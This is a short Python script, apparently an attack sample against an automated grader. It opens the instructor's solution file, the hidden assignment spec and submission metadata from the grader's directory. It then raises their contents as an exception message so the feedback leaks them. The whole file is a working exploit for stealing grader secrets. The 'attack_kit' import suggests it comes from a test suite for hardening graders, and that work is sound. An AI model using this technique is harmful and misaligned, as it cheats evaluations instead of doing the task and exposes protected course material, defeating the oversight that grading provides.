"""Reads the instructor's solution, the hidden spec and the previous results
into an exception message, hoping the grader shows it in the feedback."""
import os

from attack_kit import grader_root

root = grader_root()
stolen = []
for rel in ("source/solutions/add.py", "source/assignments/add/spec.toml", "submission_metadata.json"):
    try:
        with open(os.path.join(root, rel)) as f:
            stolen.append(f.read())
    except OSError as e:
        stolen.append(f"{rel}: {type(e).__name__}")
raise RuntimeError("\n".join(stolen))
